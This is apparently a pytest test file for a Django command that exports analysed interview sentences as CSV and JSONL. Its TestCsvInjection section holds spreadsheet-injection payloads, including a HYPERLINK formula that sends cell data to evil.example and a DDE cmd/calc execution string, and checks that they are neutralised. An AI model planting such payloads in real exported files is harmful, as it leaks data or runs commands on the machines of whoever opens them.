import csv
import io
import json
import uuid
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from django.db import connection  # noqa: F401  (read by a skipif condition)

from readmodel.export import CSV_COLUMNS, export_rows, write_csv, write_jsonl
from readmodel.models import Sentence
from readmodel.selectors import sentences_for_export
from tests.readmodel.orm_rows import AI_CONFIDENCE, AI_VALUES, fixed_id, fixture_rows, save

INTERVIEW_1 = fixed_id(0x2001)
NOTHING = dict.fromkeys(AI_VALUES)

ANALYSED_ROW = {
    "project_slug": "project-1",
    "interview_id": str(INTERVIEW_1),
    "interview_title": "Interview 1",
    "sentence_id": str(fixed_id(0x3064)),
    "index": 0,
    "speaker": "Maya",
    "text": "Sentence 0 of Interview 1.",
    "original_text": "Sentence 0 of Interview 1.",
    "edited": False,
    "stale_analysis": False,
    "ai": AI_VALUES,
    "effective": {**AI_VALUES, "purpose": "Answer"},
    "confidence": AI_CONFIDENCE,
    "overrides": {
        "purpose": {
            "actor": "Ada Reviewer",
            "reason": "it answers the question before",
            "at": "2025-01-03T08:00:00+00:00",
        }
    },
    "reviewed": True,
    "reviewed_by": "Ada Reviewer",
    "reviewed_at": "2025-01-03T09:30:00.123456+00:00",
    "review_note": "checked",
    "analyzer": "heuristic",
    "model": "rules",
    "model_version": "1.2",
}
TRICKY_TEXT = 'She said "no, never",\nthen left; twice.'
UNANALYSED_ROW = {
    **ANALYSED_ROW,
    "sentence_id": str(fixed_id(0x3065)),
    "index": 1,
    "speaker": None,
    "text": TRICKY_TEXT,
    "original_text": TRICKY_TEXT,
    "ai": NOTHING,
    "effective": NOTHING,
    "confidence": NOTHING,
    "overrides": {},
    "reviewed": False,
    "reviewed_by": None,
    "reviewed_at": None,
    "review_note": None,
    "analyzer": "",
    "model": "",
    "model_version": "",
}


@pytest.fixture
def fixture_saved():
    save(fixture_rows())
    Sentence.objects.filter(interview_id=INTERVIEW_1, index=1).update(
        text=TRICKY_TEXT, original_text=TRICKY_TEXT
    )


def export(fmt: str, *args: str) -> str:
    out = io.StringIO()
    call_command("export", *args, "--format", fmt, stdout=out)
    return out.getvalue()


@pytest.mark.django_db
@pytest.mark.usefixtures("fixture_saved")
class TestExportRows:
    def test_it_exports_an_interview_in_index_order_with_nested_dimensions(self):
        rows = list(export_rows(sentences_for_export(interview_id=INTERVIEW_1)))

        assert rows == [ANALYSED_ROW, UNANALYSED_ROW]

    def test_it_exports_a_project_interview_by_interview(self):
        rows = export_rows(sentences_for_export(project_slug="project-1"))

        assert [(r["interview_title"], r["index"]) for r in rows] == [
            ("Interview 1", 0),
            ("Interview 1", 1),
            ("Interview 2", 0),
        ]

    def test_it_costs_one_query_however_many_sentences(self, django_assert_num_queries):
        with django_assert_num_queries(1):
            list(export_rows(sentences_for_export(project_slug="project-1")))

    def test_the_selector_wants_exactly_one_of_interview_and_project(self):
        with pytest.raises(ValueError, match="exactly one"):
            sentences_for_export()
        with pytest.raises(ValueError, match="exactly one"):
            sentences_for_export(interview_id=INTERVIEW_1, project_slug="project-1")


@pytest.mark.django_db
@pytest.mark.usefixtures("fixture_saved")
class TestJsonl:
    def test_it_writes_one_object_per_line(self):
        lines = export("jsonl", str(INTERVIEW_1)).splitlines()

        assert [json.loads(line) for line in lines] == [ANALYSED_ROW, UNANALYSED_ROW]

    def test_it_keeps_the_documented_key_order(self):
        first = json.loads(export("jsonl", str(INTERVIEW_1)).splitlines()[0])

        assert list(first) == list(ANALYSED_ROW)

    def test_write_jsonl_returns_the_number_of_rows(self):
        out = io.StringIO()

        assert write_jsonl([ANALYSED_ROW, UNANALYSED_ROW], out) == 2
        assert out.getvalue().count("\n") == 2


@pytest.mark.django_db
@pytest.mark.usefixtures("fixture_saved")
class TestCsv:
    def test_it_has_a_flat_header_in_a_fixed_order(self):
        header = next(csv.reader(io.StringIO(export("csv", str(INTERVIEW_1)))))

        assert header == list(CSV_COLUMNS)
        assert header[:10] == [
            "project_slug",
            "interview_id",
            "interview_title",
            "sentence_id",
            "index",
            "speaker",
            "text",
            "original_text",
            "edited",
            "stale_analysis",
        ]
        assert header[10:16] == [
            "function_type_ai",
            "function_type_effective",
            "function_type_confidence",
            "function_type_override_actor",
            "function_type_override_reason",
            "function_type_override_at",
        ]
        assert header[-8:] == [
            "overridden_dimensions",
            "reviewed",
            "reviewed_by",
            "reviewed_at",
            "review_note",
            "analyzer",
            "model",
            "model_version",
        ]
        assert len(header) == 10 + 7 * 6 + 8

    def test_it_writes_the_analysed_sentence_flat(self):
        first = next(csv.DictReader(io.StringIO(export("csv", str(INTERVIEW_1)))))

        assert {k: v for k, v in first.items() if not k.startswith(("topic", "structure"))} == {
            "project_slug": "project-1",
            "interview_id": str(INTERVIEW_1),
            "interview_title": "Interview 1",
            "sentence_id": str(fixed_id(0x3064)),
            "index": "0",
            "speaker": "Maya",
            "text": "Sentence 0 of Interview 1.",
            "original_text": "Sentence 0 of Interview 1.",
            "edited": "false",
            "stale_analysis": "false",
            "function_type_ai": "declarative",
            "function_type_effective": "declarative",
            "function_type_confidence": "0.93",
            "function_type_override_actor": "",
            "function_type_override_reason": "",
            "function_type_override_at": "",
            "purpose_ai": "Statement",
            "purpose_effective": "Answer",
            "purpose_confidence": "0.5",
            "purpose_override_actor": "Ada Reviewer",
            "purpose_override_reason": "it answers the question before",
            "purpose_override_at": "2025-01-03T08:00:00+00:00",
            "overall_keywords_ai": '["release train", "jira board"]',
            "overall_keywords_effective": '["release train", "jira board"]',
            "overall_keywords_confidence": "0.35",
            "overall_keywords_override_actor": "",
            "overall_keywords_override_reason": "",
            "overall_keywords_override_at": "",
            "domain_keywords_ai": '["Jira"]',
            "domain_keywords_effective": '["Jira"]',
            "domain_keywords_confidence": "1.0",
            "domain_keywords_override_actor": "",
            "domain_keywords_override_reason": "",
            "domain_keywords_override_at": "",
            "overridden_dimensions": '["purpose"]',
            "reviewed": "true",
            "reviewed_by": "Ada Reviewer",
            "reviewed_at": "2025-01-03T09:30:00.123456+00:00",
            "review_note": "checked",
            "analyzer": "heuristic",
            "model": "rules",
            "model_version": "1.2",
        }

    def test_text_with_commas_quotes_and_a_newline_round_trips(self):
        rows = list(csv.DictReader(io.StringIO(export("csv", str(INTERVIEW_1)), newline="")))

        assert len(rows) == 2
        assert rows[1]["text"] == TRICKY_TEXT
        assert rows[1]["speaker"] == ""
        assert rows[1]["overridden_dimensions"] == "[]"
        assert rows[1]["function_type_ai"] == ""

    def test_keyword_lists_are_json_in_their_cell(self):
        first = next(csv.DictReader(io.StringIO(export("csv", str(INTERVIEW_1)))))

        assert json.loads(first["overall_keywords_ai"]) == AI_VALUES["overall_keywords"]

    def test_write_csv_returns_the_number_of_rows(self):
        assert write_csv([ANALYSED_ROW, UNANALYSED_ROW], io.StringIO()) == 2


@pytest.mark.django_db
@pytest.mark.usefixtures("fixture_saved")
class TestExportCommand:
    def test_it_exports_a_project(self):
        lines = export("jsonl", "--project", "project-2").splitlines()

        assert [json.loads(line)["interview_title"] for line in lines] == ["Interview 3"]

    def test_it_writes_to_a_file_when_asked(self, tmp_path: Path):
        target = tmp_path / "out.csv"
        err = io.StringIO()
        call_command(
            "export", str(INTERVIEW_1), "--format", "csv", "--output", str(target), stderr=err
        )

        assert target.read_bytes().decode("utf-8") == export("csv", str(INTERVIEW_1))
        assert "wrote 2 sentences" in err.getvalue()

    def test_an_interview_without_sentences_gives_only_the_header_or_nothing(self):
        Sentence.objects.filter(interview_id=INTERVIEW_1).delete()

        assert export("csv", str(INTERVIEW_1)) == ",".join(CSV_COLUMNS) + "\r\n"
        assert export("jsonl", str(INTERVIEW_1)) == ""

    @pytest.mark.parametrize(
        ("args", "message"),
        [
            pytest.param([str(uuid.UUID(int=1))], "no interview with id", id="unknown-interview"),
            pytest.param(["--project", "nope"], "no project with slug 'nope'", id="unknown-slug"),
            pytest.param(["not-a-uuid"], "'not-a-uuid' is not an interview id", id="bad-uuid"),
            pytest.param([str(INTERVIEW_1), "--project", "project-1"], "not both", id="both-given"),
            pytest.param([], "give an INTERVIEW_ID or --project SLUG", id="neither-given"),
        ],
    )
    def test_it_refuses_a_bad_selection(self, args, message):
        with pytest.raises(CommandError, match=message):
            export("jsonl", *args)

    def test_it_refuses_an_unknown_format(self):
        with pytest.raises(CommandError, match="invalid choice: 'xml'"):
            export("xml", str(INTERVIEW_1))

    def test_it_needs_a_format(self):
        with pytest.raises(CommandError, match="--format"):
            call_command("export", str(INTERVIEW_1), stdout=io.StringIO())


FORMULAS = {
    "text": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "speaker": "@SUM(1+1)*cmd|' /C calc'!A0",
    "review_note": "+1 looks right",
    "interview_title": "-2+3",
    "original_text": "\t=1+1",
    "model": "\r=1+1",
}


@pytest.fixture
def formula_saved():
    save(fixture_rows())
    sentence = Sentence.objects.get(interview_id=INTERVIEW_1, index=0)
    for field in ("text", "speaker", "review_note", "original_text", "model"):
        setattr(sentence, field, FORMULAS[field])
    sentence.save()
    sentence.interview.title = FORMULAS["interview_title"]
    sentence.interview.save()


@pytest.mark.django_db
@pytest.mark.usefixtures("formula_saved")
class TestCsvInjection:
    def test_a_cell_a_spreadsheet_would_run_as_a_formula_starts_with_a_quote(self):
        first = next(csv.DictReader(io.StringIO(export("csv", str(INTERVIEW_1)))))

        assert {column: first[column] for column in FORMULAS} == {
            column: f"'{value}" for column, value in FORMULAS.items()
        }

    def test_other_cells_are_left_alone(self):
        first = next(csv.DictReader(io.StringIO(export("csv", str(INTERVIEW_1)))))

        assert first["purpose_override_reason"] == "it answers the question before"
        assert first["function_type_confidence"] == "0.93"
        assert first["reviewed_at"] == "2025-01-03T09:30:00.123456+00:00"

    def test_jsonl_keeps_the_raw_values(self):
        first = json.loads(export("jsonl", str(INTERVIEW_1)).splitlines()[0])

        assert {column: first[column] for column in FORMULAS} == FORMULAS


# A read-model row the export cannot finish with, as data an older release could leave behind:
# `effective` that is not a mapping, or (SQLite only: PostgreSQL's jsonb never held one) a lone
# surrogate in a keyword, which no UTF-8 file can hold.
UNEXPORTABLE = {
    "unreadable": pytest.param({"effective": ["not", "a", "mapping"]}, id="unreadable"),
    "unencodable": pytest.param(
        {"effective": {"overall_keywords": ["ji\ud800ra"]}},
        id="unencodable",
        marks=pytest.mark.skipif(
            "connection.vendor != 'sqlite'", reason="PostgreSQL's jsonb refuses a lone surrogate"
        ),
    ),
}


@pytest.fixture
def second_row_unexportable(request):
    save(fixture_rows())
    Sentence.objects.filter(interview_id=INTERVIEW_1, index=1).update(**request.param)


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
@pytest.mark.parametrize("second_row_unexportable", UNEXPORTABLE.values(), indirect=True)
@pytest.mark.usefixtures("second_row_unexportable")
class TestAnExportThatCannotFinish:
    def test_it_exits_non_zero_and_leaves_the_output_file_as_it_was(self, fmt, tmp_path, caplog):
        target = tmp_path / f"out.{fmt}"
        target.write_text("yesterday's export\n")

        with pytest.raises(CommandError, match=r"failed after \d+ records; .* incomplete"):
            call_command("export", str(INTERVIEW_1), "--format", fmt, "--output", str(target))

        assert target.read_text() == "yesterday's export\n"
        assert list(tmp_path.iterdir()) == [target]  # no partial file left behind
        [record] = [r for r in caplog.records if r.name == "readmodel.export"]
        assert record.levelname == "ERROR"
        assert record.exc_info

    def test_an_export_to_stdout_fails_too(self, fmt, tmp_path):
        # stdout is a real file here (a StringIO would accept what UTF-8 cannot encode)
        with (
            (tmp_path / "stdout").open("w", encoding="utf-8") as out,
            pytest.raises(CommandError, match="incomplete"),
        ):
            call_command("export", str(INTERVIEW_1), "--format", fmt, stdout=out)
